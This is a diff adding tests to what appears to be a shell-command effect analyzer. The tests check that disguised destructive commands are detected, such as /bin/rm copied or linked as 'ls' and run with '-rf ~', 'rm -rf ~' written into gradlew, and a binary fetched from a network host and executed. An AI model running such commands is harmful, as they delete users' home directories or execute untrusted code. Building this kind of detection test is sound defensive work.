@@ -206,3 +206,27 @@ describe('where git works', () => {
     expect(directory('git checkout . && git -C ../other checkout .')).toHaveLength(2);
   });
 });
+
+describe('a program at a path, by the name of one that is known', () => {
+  it.each([
+    ['cp /bin/rm ls; ./ls -rf ~', 'code.exec /bin/rm origin=foreign-file'],
+    ['ln -s /bin/rm ls; ./ls -rf ~', 'code.exec /bin/rm origin=foreign-file'],
+    ['cat /bin/rm > ls; chmod +x ls; ./ls -rf ~', 'code.exec'],
+    ['curl -o ls https://x.example/ls; chmod +x ls; ./ls', 'code.exec origin=network'],
+    ["echo 'rm -rf ~' > gradlew; ./gradlew build", 'fs.delete /home/dana root=home'],
+    ['git clone https://x.example/r.git && cd r && ./gradlew build', 'code.exec ./r/gradlew origin=foreign-file'],
+  ])('is what the submission put there: %s', (command, expected) => {
+    expect(effectsOf(command).some((line) => line.startsWith(expected))).toBe(true);
+  });
+
+  it.each([
+    ['./gradlew build', 'code.exec'],
+    ['chmod +x gradlew && ./gradlew build', 'code.exec'],
+    ['npm ci && ./node_modules/.bin/rimraf build', 'fs.delete ./build'],
+    ['python3 -m venv .venv && .venv/bin/pip install flask', 'package.install'],
+  ])('is taken at its word otherwise: %s', (command, expected) => {
+    const lines = effectsOf(command);
+    expect(lines.some((line) => line.startsWith(expected))).toBe(true);
+    expect(lines.join()).not.toContain('foreign-file');
+  });
+});
